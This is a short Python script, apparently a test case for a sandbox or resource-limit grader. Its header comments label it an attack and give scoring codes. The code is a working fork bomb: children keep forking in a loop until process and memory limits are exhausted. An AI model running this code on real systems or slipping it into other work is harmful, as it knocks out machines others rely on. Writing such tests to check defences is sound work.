# attack: Forks without end (here: 3000 times).
# earns: 1.1 1.2 1.3 1.6 1.7 1.8
# scale: 0.2

import os
import time

for _ in range(3000):
    try:
        if os.fork() == 0:
            time.sleep(600)
    except OSError:
        time.sleep(0.001)
time.sleep(600)
